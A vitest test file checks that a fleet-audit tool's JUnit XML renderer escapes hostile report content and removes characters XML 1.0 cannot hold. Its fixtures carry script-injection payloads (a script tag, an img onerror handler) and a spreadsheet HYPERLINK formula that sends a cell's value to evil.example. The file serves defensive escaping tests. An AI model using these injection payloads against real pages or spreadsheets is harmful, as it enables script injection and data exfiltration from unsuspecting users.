import { describe, expect, it } from 'vitest';
import { renderReportJunit } from '../../../lib/core/render/report-junit.ts';
import { xmlAttribute, xmlText } from '../../../lib/core/render/xml.ts';
import { expectGolden } from '../../support/golden.ts';
import { hostileReport } from '../../support/hostile-report.ts';
import { sampleReport } from '../../support/sample-report.ts';

// Everything XML 1.0 forbids in a document (https://www.w3.org/TR/xml/#charsets).
const NOT_XML_1_0 = /[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u;

describe('renderReportJunit', () => {
  it('renders a test suite per control and a test case per finding', () => {
    expectGolden(renderReportJunit(hostileReport()), 'report.junit.xml');
  });

  it('turns each status into its JUnit element, with totals that add up', () => {
    const xml = renderReportJunit(hostileReport());
    expect(xml.match(/<testcase /g)).toHaveLength(hostileReport().findings.length);
    expect(xml).toMatch(/^<testsuites name="fleet-audit 20261126T060000Z-aws-1a2b" tests="10" failures="4" errors="1" skipped="2" /m);
    expect(xml).toContain('<testsuite name="HEALTH-03" tests="3" failures="1" errors="1" skipped="1" ');
    expect(xml).toContain('<testcase classname="COLLECT-01" name="vm i-0a1b2c3d4e5f60002 (web-2)"/>');
    expect(xml).toContain('<skipped message="WAIVED: the readiness probe refused the connection');
    expect(xml).toContain('<skipped message="SKIP: @ISTIO_CUSTOM_IP_TABLES=true');
    expect(xml).toMatch(/<error message="no diagnostic output to evaluate \(see COLLECT-01\)" type="CRITICAL">/);
    expect(xml).toContain('<testcase classname="REG-02" name="workloadentry payments/web-9">');
  });

  it('escapes markup everywhere and leaves out what XML 1.0 cannot hold', () => {
    const xml = renderReportJunit(hostileReport());
    expect(xml).not.toMatch(NOT_XML_1_0);
    expect(xml).not.toContain('<script>');
    expect(xml).not.toContain('<img');
    expect(xml).not.toMatch(/]]>/);
    // Markup in an attribute, then in the failure's text; line breaks in attributes stay references.
    expect(xml).toContain(
      'message="the readiness probe answered 503: &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &quot;&gt;&lt;img src=x onerror=alert(1)&gt; ]]&gt; &amp;amp;"',
    );
    expect(xml).toContain(
      '>the readiness probe answered 503: &lt;script&gt;alert("x")&lt;/script&gt; "&gt;&lt;img src=x onerror=alert(1)&gt; ]]&gt; &amp;amp;\nseverity: CRITICAL\n',
    );
    expect(xml).toContain('name="vm i-0a1b2c3d4e5f60001 (=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;))"');
    expect(xml).toContain('first line&#13;&#10;second, &quot;quoted&quot; line&#13;third"');
  });

  it('escapes text and attribute values', () => {
    expect(xmlText('a < b && c > d\r\n\u0000\u001b\ufffe\ud800\u{1F600}')).toBe(
      'a &lt; b &amp;&amp; c &gt; d&#13;\n\uFFFD\uFFFD\uFFFD\uFFFD\u{1F600}',
    );
    expect(xmlAttribute(`"'\t\n<&`)).toBe('&quot;&apos;&#9;&#10;&lt;&amp;');
  });

  it('renders every finding of a report the analyzer made', () => {
    const report = sampleReport();
    const xml = renderReportJunit(report);
    expect(xml.match(/<testcase /g)).toHaveLength(report.findings.length);
    expect(xml).not.toMatch(NOT_XML_1_0);
  });
});
